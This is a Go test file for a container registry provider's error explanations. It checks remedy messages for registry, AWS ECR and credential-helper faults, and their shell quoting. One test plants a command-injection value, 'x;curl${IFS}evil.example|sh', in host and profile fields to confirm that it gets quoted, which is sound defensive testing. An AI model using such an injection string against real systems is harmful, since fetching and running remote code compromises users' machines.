package provider

import (
	"errors"
	"fmt"
	"testing"

	"github.com/pulumi-buildkit/pulumi-buildkit/registry"
	"github.com/pulumi-buildkit/pulumi-buildkit/registry/fault"
)

// factsOf returns an error with a fault and every fact that a remedy may name.
func factsOf(kind fault.Kind) *fault.Error {
	return &fault.Error{
		Kind: kind, Text: "x", Host: "ghcr.io", Repository: "acme/app", Label: "1", Action: "ecr:PutImage",
		Profile: "dev",
		Role:    "arn:aws:iam::1:role/push", Region: "eu-nowhere-1", Clock: "is 25 minutes behind that of AWS",
		Program: "docker-credential-x", Address: "https://ghcr.io/", Proposal: "app:1",
	}
}

// remediesOfTheRegistry has the expected remedy of each fault of package registry.
var remediesOfTheRegistry = map[fault.Kind]string{
	fault.Unreachable: "check that ghcr.io is right and running",
	fault.Silent:      "check the network and try again",
	fault.UnknownHost: "correct the name of ghcr.io, or the DNS of the builder",
	fault.BrokenConnection: "the connection to ghcr.io breaks: check the network between it and the builder, and " +
		"try again",
	fault.BrokenServer:       "the fault is in ghcr.io; try again later",
	fault.ProxyRefused:       "correct HTTPS_PROXY, HTTP_PROXY and NO_PROXY, here and at the builder",
	fault.ExpiredCertificate: "correct this machine's clock, or renew ghcr.io's certificate",
	fault.UntrustedCertificate: "add the authority that signed ghcr.io's certificate to this machine's, or name its " +
		"file in registries",
	fault.PlainHTTP:          "ghcr.io speaks plain http: serve it over https, or set insecure for it in registries",
	fault.PlainHTTPRefused:   "serve the registry over https",
	fault.UnnamedHost:        "name ghcr.io in registries to allow it",
	fault.NotARegistry:       "check that ghcr.io is a registry and the proxy lets us reach it",
	fault.CAFile:             "correct it in registries",
	fault.CAFileLink:         "write the path of its target in registries",
	fault.NoCredentials:      "log in with docker login or set registries",
	fault.CredentialsRefused: "log in again with docker login ghcr.io or correct registries",
	fault.AccessDenied:       "give the user of ghcr.io access to acme/app, or log in as another",
	fault.ReadDenied:         "give the user of ghcr.io access to acme/app, or log in as another",
	fault.ActionDenied:       "allow ecr:PutImage in the IAM policy of that user",
	fault.OrganizationPolicy: "a policy of your AWS organization forbids it; ask those who keep the policy",
	fault.KeyDenied:          "let that user use the KMS key of acme/app: kms:GenerateDataKey and kms:Decrypt",
	fault.RepositoryMissing:  "create acme/app on ghcr.io first, a push does not create it",
	fault.TagFixed: "use a tag that changes with its content, such as ghcr.io/acme/app:{hash}, or let the repository " +
		"move tags",
	fault.TagFixedUnserved: "restore that image or delete the tag, and try again",
	fault.TagInUse:         "delete the tags of that index first",
	fault.TagsNotDeleted:   "delete it with the tools of ghcr.io",
	fault.RateLimited:      "wait some minutes and try again, with fewer images at once",

	fault.ContentOther: "push it again, and look at the registry's storage or the proxy before it",
	fault.ContentLost:  "look at its storage",
	fault.TagLost:      "try again, and look at the registry's storage",
	fault.TagTaken:     "try again",
	fault.ImageOther:   "build and push it again",
	fault.NotAnImage:   "push images only",
	fault.ImageGone:    "push it again",
	fault.ImageArchived: "restore it with aws ecr update-image-storage-class --repository-name acme/app --image-id " +
		"imageTag=1 --target-storage-class STANDARD, or push it again",
	fault.ImageMaybe:    "only AWS credentials with the right to ecr:DescribeImages in acme/app can tell",
	fault.ImageUnserved: "try again",

	fault.PlatformMissing: "choose platforms that the sources have, or add a source that has them",
	fault.PlatformTwice:   "leave one of them out of sources, or choose other platforms",

	fault.HelperMissing: "install it, or remove it from docker's config.json",
	fault.HelperSilent:  "unlock its key store and try again",
	fault.HelperFailed:  "see what it says with: echo https://ghcr.io/ | docker-credential-x get",
	fault.HelperEndless: "update it, or remove it from docker's config.json",
	fault.HelperGarbled: "update it",
	fault.DockerConfig:  "correct or remove that file",
	fault.DockerAuth:    "correct or unset it",
	fault.AzureRefused:  "log in with az login",
	fault.NoStoredLogin: "or log in with docker login, whose config.json has none either",
	fault.AWSProfile:    "correct ecr.profile or AWS_PROFILE",
	fault.AWSSSO:        "log in with aws sso login --profile dev",
	fault.AWSSession:    "log in with aws login --profile dev",
	fault.AWSNothing:    "run aws configure, or name a profile that has some with ecr.profile or AWS_PROFILE",
	fault.AWSProcess:    "see what it says with aws sts get-caller-identity --profile dev",
	fault.AWSFactor:     "log in before, or name a role that needs none with ecr.roleArn",
	fault.AWSExpired: `get new credentials for profile "dev", or unset AWS_SESSION_TOKEN and its companions if they ` +
		`are left ` + "over",
	fault.AWSClock: "set this machine's clock, which is 25 minutes behind that of AWS",
	fault.AWSKey:   `correct the access key of profile "dev"`,
	fault.AWSTrust: "let the trust policy of arn:aws:iam::1:role/push name that user, and that user's policy " +
		"sts:AssumeRole",
	fault.AWSUnreachable: "check that ghcr.io is right and the network",
	fault.AWSRegion:      `check that ghcr.io is right, that "eu-nowhere-1" is a region, and the network`,
	fault.AWSBroken:      "the fault is in AWS or a proxy before it; try again later",
	fault.AWSOther:       "check ecr.endpoint and the proxy",
	fault.AWSTokenFormat: "check ecr.endpoint",

	fault.TagText:      "write app:1",
	fault.TagInvisible: "remove it",
	fault.TagLogin:     "remove it and log in with docker login or set registries",
	fault.TagBare: "write user/app:1 for your own Docker Hub repository, registry.example.com/app:1 for your " +
		"registry, or docker.io/library/app:1 if you mean it",
	fault.TagLong: "shorten them to 128",
	fault.TagPath: "write host/path:tag, the path in lower-case letters and digits with single . _ - between them",
}

// TestRemediesOfTheRegistry checks the remedy of each fault of package registry.
func TestRemediesOfTheRegistry(t *testing.T) {
	t.Parallel()
	for kind, want := range remediesOfTheRegistry {
		err := fmt.Errorf("tagging y: %w", factsOf(kind))
		if got := explainRegistry(err).Error(); got != "tagging y: x; "+want {
			t.Errorf("%d: got %s, want %s", kind, got, want)
		}
	}
}

// TestRemediesOfTheRegistryElsewhere checks the other remedies of Amazon ECR and of the builder.
func TestRemediesOfTheRegistryElsewhere(t *testing.T) {
	t.Parallel()
	amazon, builder := map[fault.Kind]string{
		fault.CredentialsRefused: "check its account and region, and docker login or registries if they are from there",
		fault.ReadDenied: "allow ecr:BatchCheckLayerAvailability and ecr:BatchGetImage for acme/app in the IAM " +
			"policy of that user",
		fault.RepositoryMissing: "create it with aws.ecr.Repository, or correct the account and the region in its name",
		fault.TagFixedUnserved: "restore it with aws ecr update-image-storage-class --repository-name acme/app " +
			"--image-id imageTag=1 --target-storage-class STANDARD, or delete the tag with aws ecr " +
			"batch-delete-image --repository-name acme/app --image-ids imageTag=1, and try again",
	}, map[fault.Kind]string{
		fault.Unreachable:        "check that ghcr.io is right and running, and that the builder reaches it",
		fault.ExpiredCertificate: "correct the builder's clock, or renew ghcr.io's certificate",
		fault.UntrustedCertificate: "give the builder the authority that signed ghcr.io's certificate: caFile in " +
			"registries for the provider's own, ca in its buildkitd.toml for another",
	}
	for kind, want := range amazon {
		e := factsOf(kind)
		e.Amazon = true
		if got := explainRegistry(e).Error(); got != "x; "+want {
			t.Errorf("Amazon: %d: got %s, want %s", kind, got, want)
		}
	}
	for kind, want := range builder {
		e := factsOf(kind)
		e.Daemon = true
		if got := explainRegistry(e).Error(); got != "x; "+want {
			t.Errorf("builder: %d: got %s, want %s", kind, got, want)
		}
	}
	bare := &fault.Error{Kind: fault.TagText, Text: "x"}
	if got := explainRegistry(bare).Error(); got != "x; write host/path:tag, such as ghcr.io/acme/app:1" {
		t.Error(got)
	}
}

// TestSeveralRemedies checks that each remedy appears once, and their order.
func TestSeveralRemedies(t *testing.T) {
	t.Parallel()
	sso, refused := factsOf(fault.AWSSSO), factsOf(fault.CredentialsRefused)
	refused.Reason = sso
	const again, login = "log in again with docker login ghcr.io or correct registries",
		"log in with aws sso login --profile dev"
	one, two := fmt.Errorf("one: %w", factsOf(fault.TagTaken)), fmt.Errorf("two: %w", factsOf(fault.ContentLost))
	for want, err := range map[string]error{
		"x; " + again + "; " + login:                     refused,
		"a: x: b: x; " + login:                           fmt.Errorf("a: %w: b: %w", sso, sso),
		"one: x; try again\ntwo: x; look at its storage": &registry.TagErrors{Each: []error{one, two}},
		"more: one: x; try again":                        fmt.Errorf("more: %w", explainRegistry(one)),
		"one: x; try again\ntwo: x; look at its storage " +
			"(end)": fmt.Errorf("%w (end)", errors.Join(explainRegistry(one), explainRegistry(two))),
		"nothing": errors.New("nothing"),
	} {
		for range 2 { // what is explained stays as it is
			if err = explainRegistry(err); err.Error() != want {
				t.Errorf("got %v, want %s", err, want)
			}
		}
	}
	if explainRegistry(nil) != nil {
		t.Error("nothing is wrong")
	}
}

// TestRemediesQuoteWhatOthersName checks that remedies quote hosts, repositories, tags and profiles for a shell.
func TestRemediesQuoteWhatOthersName(t *testing.T) {
	t.Parallel()
	const evil = "x;curl${IFS}evil.example|sh$profile"
	const quoted = "'" + evil + "'"
	for kind, want := range map[fault.Kind]string{
		fault.CredentialsRefused: "log in again with docker login " + quoted + " or correct registries",
		fault.ImageArchived: "restore it with aws ecr update-image-storage-class --repository-name " + quoted + " " +
			"--image-id 'imageTag=" + evil + "' --target-storage-class STANDARD, or push it again",
		fault.AWSSSO: "log in with aws sso login --profile " + quoted,
	} {
		e := &fault.Error{Kind: kind, Text: "x", Host: evil, Repository: evil, Label: evil, Profile: evil}
		if got := explainRegistry(e).Error(); got != "x; "+want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
}
